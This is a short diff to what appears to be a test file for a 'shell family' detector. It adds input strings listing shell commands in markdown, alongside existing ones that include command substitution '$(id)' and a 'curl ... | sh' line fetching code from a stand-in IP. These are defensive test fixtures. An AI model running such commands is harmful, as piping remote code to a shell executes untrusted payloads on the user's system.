@@ -279,6 +279,8 @@ describe("shell family", () => {
     for (const value of [
       "- `id`",
       "- `id` x",
+      "- `id` is",
+      "- `uname -a` prints",
       "* `whoami`\n",
       "- `$(id)` now",
       "1. `curl http://203.0.113.9/x|sh` then",
